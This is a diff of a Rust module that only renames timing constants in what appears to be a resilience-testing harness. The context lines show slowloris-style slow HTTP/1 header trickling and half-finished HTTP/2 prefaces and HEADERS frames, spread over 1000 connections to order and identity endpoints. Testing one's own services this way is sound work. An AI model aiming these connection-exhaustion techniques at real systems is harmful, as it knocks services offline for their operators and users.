@@ -8,13 +8,13 @@ use super::Attacker;
 use crate::wire::{Connection, Http2, frames};
 
 const CONNECTIONS: u32 = 1000;
-const PAUSE: Duration = Duration::from_secs(1);
+const REPEAT_DELAY: Duration = Duration::from_secs(1);
 /// The pause between two bytes.
-const BYTE: Duration = Duration::from_secs(2);
+const BYTE_INTERVAL: Duration = Duration::from_secs(2);
 
 pub async fn http1(attacker: Arc<Attacker>) {
     attacker
-        .repeat(CONNECTIONS, PAUSE, |attacker, _| async move {
+        .repeat(CONNECTIONS, REPEAT_DELAY, |attacker, _| async move {
             let target = &attacker.entrances.order;
             let Ok(mut connection) = Connection::open(&attacker, target).await else { return };
             let begin = format!("GET /api/v1/orders HTTP/1.1\r\nHost: {target}\r\nX-Slow: ");
@@ -29,7 +29,7 @@ pub async fn http1(attacker: Arc<Attacker>) {
 /// On every second connection sends half a preface, and on the others a HEADERS frame that is not the last.
 pub async fn http2(attacker: Arc<Attacker>) {
     attacker
-        .repeat(CONNECTIONS, PAUSE, |attacker, number| async move {
+        .repeat(CONNECTIONS, REPEAT_DELAY, |attacker, number| async move {
             let target = &attacker.entrances.iam;
             if number % 2 == 0 {
                 let Ok(mut connection) = Connection::open(&attacker, target).await else { return };
@@ -53,7 +53,7 @@ pub async fn http2(attacker: Arc<Attacker>) {
                     };
                     async move {
                         if !first {
-                            sleep(BYTE).await;
+                            sleep(BYTE_INTERVAL).await;
                         }
                         Some(bytes)
                     }
@@ -67,7 +67,7 @@ pub async fn http2(attacker: Arc<Attacker>) {
 async fn trickle(connection: &mut Connection) {
     loop {
         // The server may close the connection during the pause.
-        if tokio::time::timeout(BYTE, connection.wait_for_close()).await.is_ok() {
+        if tokio::time::timeout(BYTE_INTERVAL, connection.wait_for_close()).await.is_ok() {
             return;
         }
         if connection.write(b"x").await.is_err() {
